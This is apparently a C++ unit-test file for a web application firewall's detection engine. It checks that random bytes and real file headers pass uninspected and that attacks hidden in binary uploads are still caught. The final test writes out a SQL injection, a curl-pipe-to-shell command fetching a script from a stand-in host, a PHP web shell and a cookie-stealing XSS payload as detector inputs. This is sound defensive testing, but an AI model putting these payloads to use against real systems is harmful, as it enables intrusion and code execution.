// Binary bodies and uploads: random bytes, compressed and encrypted blobs and images are not an
// attack language. They are classified as binary and only the text inside them is inspected, so
// an attack string embedded in a file (or sent as text with a binary content type) still counts.
#include <gtest/gtest.h>

#include <cstdio>
#include <random>
#include <string>
#include <vector>

#include "body_decode.h"
#include "bulwark/detect/engine.h"
#include "bulwark/detect/text.h"
#include "registered_rules.h"

namespace bulwark::detect {
namespace {

std::string randomBytes(uint64_t seed, size_t n) {
  std::mt19937_64 rng(seed);
  std::string out(n, '\0');
  for (size_t i = 0; i < n; i += 8) {
    const uint64_t r = rng();
    for (size_t k = 0; k < 8 && i + k < n; ++k) {
      out[i + k] = static_cast<char>((r >> (8 * k)) & 0xff);
    }
  }
  return out;
}

// Protobuf-shaped bytes: varint keys, varints, length-delimited random fields.
std::string protobufLike(uint64_t seed, size_t n) {
  std::mt19937_64 rng(seed);
  std::string out;
  while (out.size() < n) {
    const uint32_t field = static_cast<uint32_t>(rng() % 15) + 1;
    if (rng() % 2 == 0) {
      out.push_back(static_cast<char>(field << 3)); // varint
      out.push_back(static_cast<char>(0x80 | (rng() & 0x7f)));
      out.push_back(static_cast<char>(rng() & 0x7f));
    } else {
      const size_t len = rng() % 100;
      out.push_back(static_cast<char>((field << 3) | 2));
      out.push_back(static_cast<char>(len));
      out += randomBytes(rng(), len);
    }
  }
  return out;
}

class BinaryTest : public ::testing::Test {
protected:
  static void SetUpTestSuite() {
    auto e = Engine::create(EngineConfig{});
    ASSERT_TRUE(e.has_value());
    engine_ = *e;
  }
  static Verdict post(std::string_view ct, std::string_view body, uint8_t pl = 1) {
    std::vector<Header> headers;
    if (!ct.empty()) {
      headers.push_back(Header{"Content-Type", ct});
    }
    RequestView r{.method = "POST", .target = "/upload", .versionMinor = 1, .headers = headers,
                  .body = body, .bodyTruncated = false};
    r.paranoiaLevel = pl;
    return registered(engine_->inspect(r));
  }
  static std::string multipart(std::string_view name, std::string_view filename,
                               std::string_view partType, std::string_view content) {
    std::string b = "--XyZb0undary\r\nContent-Disposition: form-data; name=\"";
    b.append(name).append("\"");
    if (!filename.empty()) {
      b.append("; filename=\"").append(filename).append("\"");
    }
    b.append("\r\n");
    if (!partType.empty()) {
      b.append("Content-Type: ").append(partType).append("\r\n");
    }
    b.append("\r\n").append(content).append("\r\n--XyZb0undary--\r\n");
    return b;
  }
  static std::string describe(const Verdict& v) {
    std::string s;
    for (const auto& f : v.findings) {
      s += std::to_string(f.ruleId) + "@" + f.part + " ";
    }
    return s;
  }
  static EnginePtr engine_;
};
EnginePtr BinaryTest::engine_;

constexpr std::string_view kMultipartType = "multipart/form-data; boundary=XyZb0undary";

TEST(BodyShapeTest, ClassifiesTextAndBinary) {
  EXPECT_FALSE(classifyBody("hello world, plain text\r\n").binary);
  EXPECT_FALSE(classifyBody("{\"a\": \"Jam\xc3\xb3n\"}").binary);  // UTF-8
  EXPECT_FALSE(classifyBody("caf\xe9 au lait, cr\xe8me br\xfbl\xe9" "e please").binary); // Latin-1
  EXPECT_FALSE(classifyBody("GIF89a;<?php echo 1; ?>").binary); // text after a signature
  EXPECT_FALSE(classifyBody(std::string("one stray\0byte in a long line of text", 38)).binary);
  EXPECT_TRUE(classifyBody(randomBytes(1, 64)).binary);
  EXPECT_TRUE(classifyBody(randomBytes(2, 65536)).binary);
  EXPECT_TRUE(classifyBody(protobufLike(3, 4096)).binary);
  const std::string png = std::string("\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16) + randomBytes(4, 200);
  EXPECT_EQ(classifyBody(png).kind, "png");
  EXPECT_EQ(classifyBody("\xff\xd8\xff\xe0" + randomBytes(5, 100)).kind, "jpeg");
  EXPECT_EQ(classifyBody(std::string("PK\x03\x04\x14\0\0\0", 8) + randomBytes(6, 100)).kind, "zip");
  EXPECT_EQ(classifyBody("\x1f\x8b\x08" + randomBytes(7, 100)).kind, "gzip");
  EXPECT_EQ(classifyBody("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + randomBytes(8, 100)).kind, "pdf");
  // UTF-16 text is text in another encoding: binary for the 8-bit detectors, read as runs.
  std::string u16;
  for (const char c : std::string("hello from a utf-16 body")) {
    u16.push_back(c);
    u16.push_back('\0');
  }
  EXPECT_EQ(classifyBody(u16).kind, "utf16");
}

TEST(BodyShapeTest, TextRunsAsciiAndUtf16) {
  std::string data = randomBytes(9, 64);
  data[10] = '\0';
  data.insert(11, "a printable run");
  data.insert(40, std::string("\0", 1));
  std::string scratch;
  std::vector<std::string> runs;
  textRuns(data, 12, 100, scratch, [&](std::string_view r) { runs.emplace_back(r); });
  bool found = false;
  for (const auto& r : runs) {
    found |= r.find("a printable run") != std::string::npos;
  }
  EXPECT_TRUE(found);
  std::string u16 = randomBytes(10, 31);
  u16.push_back('\xff');
  for (const char c : std::string("utf16 inside")) {
    u16.push_back(c);
    u16.push_back('\0');
  }
  runs.clear();
  textRuns(u16, 8, 100, scratch, [&](std::string_view r) { runs.emplace_back(r); });
  found = false;
  for (const auto& r : runs) {
    found |= r == "utf16 inside";
  }
  EXPECT_TRUE(found);
  // A bound on the runs.
  std::string many;
  for (int i = 0; i < 50; ++i) {
    many += std::string("abcdefghij\0", 11);
  }
  EXPECT_EQ(textRuns(many, 8, 10, scratch, [](std::string_view) {}), 10U);
}

TEST(TextRunsTest, TextOfJoinsTheEightBitRunsOfBinaryData) {
  std::string out;
  const std::string text = "caf\xc3\xa9\tline\r\n{}";
  EXPECT_EQ(textOf(text, out, 16).data(), text.data()); // text: no copy
  // Runs shorter than minRun characters are dropped, the others joined with a line break;
  // an overlong UTF-8 sequence is binary.
  const std::string bin = std::string("\x00", 1) + "short" + std::string("\xc0\xaf", 2) +
                          "a run of text that is long" + std::string("\x01", 1) +
                          "another long run of text" + std::string("\xff", 1);
  EXPECT_EQ(textOf(bin, out, 16), "a run of text that is long\nanother long run of text");
  std::vector<std::string> runs;
  textRuns8(bin, 16, 100, [&](std::string_view r) { runs.emplace_back(r); });
  ASSERT_EQ(runs.size(), 2U);
  EXPECT_EQ(runs[0], "a run of text that is long");
  EXPECT_EQ(textOf(std::string(64, '\0'), out, 16), "");
}

// The false-positive rate of random bodies at PL1 and PL2: 200 bodies of 64 KiB, and bodies of
// other sizes, as raw octet-stream, with no content type, as an image type and as an upload.
TEST_F(BinaryTest, RandomBodiesPass) {
  struct Case {
    std::string_view ct;
    size_t size;
    int seeds;
  };
  const Case cases[] = {
      {"application/octet-stream", 65536, 200}, {"application/octet-stream", 64, 200},
      {"application/octet-stream", 1024, 200},  {"application/octet-stream", 16384, 100},
      {"", 4096, 100},                          {"image/png", 100000, 50},
      {"application/octet-stream", 8 << 20, 2},
  };
  for (const uint8_t pl : {1, 2}) {
    size_t total = 0;
    size_t blocked = 0;
    for (const auto& c : cases) {
      for (int s = 0; s < c.seeds; ++s) {
        const std::string body = randomBytes(static_cast<uint64_t>(s) * 7919 + c.size, c.size);
        const Verdict v = post(c.ct, body, pl);
        ++total;
        if (v.attack()) {
          ++blocked;
          ADD_FAILURE() << "PL" << int(pl) << " " << c.ct << " " << c.size << " seed " << s
                        << ": " << describe(v);
        }
      }
    }
    // Uploads: a random file in a multipart body.
    for (int s = 0; s < 100; ++s) {
      const std::string body = multipart("file", "blob.bin", "application/octet-stream",
                                         randomBytes(static_cast<uint64_t>(s) + 100000, 32768));
      const Verdict v = post(kMultipartType, body, pl);
      ++total;
      if (v.attack()) {
        ++blocked;
        ADD_FAILURE() << "PL" << int(pl) << " multipart seed " << s << ": " << describe(v);
      }
    }
    std::printf("random binary bodies PL%d: %zu/%zu blocked (%.2f %%)\n", pl, blocked, total,
                100.0 * static_cast<double>(blocked) / static_cast<double>(total));
  }
}

TEST_F(BinaryTest, RealFileHeadersPass) {
  const std::vector<std::pair<std::string_view, std::string>> files = {
      {"image/png", std::string("\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\x01\0\0\0\x01\0\x08\x06\0\0\0", 29)},
      {"image/jpeg", std::string("\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0", 20)},
      {"image/gif", std::string("GIF89a\x01\0\x01\0\x80\0\0\xff\xff\xff\0\0\0!\xf9\x04", 22)},
      {"application/zip", std::string("PK\x03\x04\x14\0\0\0\x08\0", 10)},
      {"application/gzip", std::string("\x1f\x8b\x08\0\0\0\0\0\0\x03", 10)},
      {"application/pdf", std::string("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog "
                                      "/Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Length 44 /Filter "
                                      "/FlateDecode >>\nstream\n")},
      {"application/x-protobuf", protobufLike(11, 10)},
  };
  for (const auto& [ct, head] : files) {
    for (int s = 0; s < 50; ++s) {
      const std::string body = head + randomBytes(static_cast<uint64_t>(s) + 500, 20000);
      const Verdict raw = post(ct, body);
      EXPECT_FALSE(raw.attack()) << ct << " seed " << s << ": " << describe(raw);
      const Verdict up = post(kMultipartType, multipart("upload", "f.bin", ct, body));
      EXPECT_FALSE(up.attack()) << ct << " upload seed " << s << ": " << describe(up);
    }
  }
}

// Attack twins: the same attacks as text, inside binary data, in a multipart text field.
TEST_F(BinaryTest, AttacksInOrAroundBinaryStillDetected) {
  const std::string sqli = "1' union select username, password from users-- ";
  const std::string shell = "; curl http://198.18.0.9/x.sh | sh; ";
  const std::string png = std::string("\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16);
  // Text with a binary content type is text.
  EXPECT_TRUE(post("application/octet-stream", sqli).attack());
  EXPECT_TRUE(post("application/octet-stream", shell).attack());
  for (int s = 0; s < 20; ++s) {
    const std::string noise = randomBytes(static_cast<uint64_t>(s) + 900, 4096);
    // A long printable SQL or shell run inside binary data (a polyglot).
    const std::string poly = png + noise.substr(0, 2048) + '\0' + sqli + '\0' + noise.substr(2048);
    ASSERT_TRUE(classifyBody(poly).binary);
    EXPECT_TRUE(post("application/octet-stream", poly).attack()) << s;
    const std::string polyShell = noise + '\0' + shell + '\0' + noise;
    EXPECT_TRUE(post("application/octet-stream", polyShell).attack()) << s;
    // The same inside an uploaded file.
    const std::string web = png + noise + "<?php system($_GET['c']); ?>" + noise;
    EXPECT_TRUE(post(kMultipartType, multipart("f", "a.png", "image/png", web)).attack()) << s;
    const std::string html = png + noise + "<script>alert(document.cookie)</script>" + noise;
    EXPECT_TRUE(post(kMultipartType, multipart("f", "a.png", "image/png", html)).attack()) << s;
  }
  // UTF-16LE text: the attack in another encoding.
  std::string u16 = "\xff\xfe";
  for (const char c : sqli) {
    u16.push_back(c);
    u16.push_back('\0');
  }
  EXPECT_TRUE(post("application/octet-stream", u16).attack());
  // A payload in a multipart text field next to a binary file.
  const std::string body = "--XyZb0undary\r\nContent-Disposition: form-data; name=\"file\"; "
                           "filename=\"x.bin\"\r\nContent-Type: application/octet-stream\r\n\r\n" +
                           randomBytes(77, 8192) +
                           "\r\n--XyZb0undary\r\nContent-Disposition: form-data; "
                           "name=\"comment\"\r\n\r\n" +
                           sqli + "\r\n--XyZb0undary--\r\n";
  EXPECT_TRUE(post(kMultipartType, body).attack());
}

} // namespace
} // namespace bulwark::detect
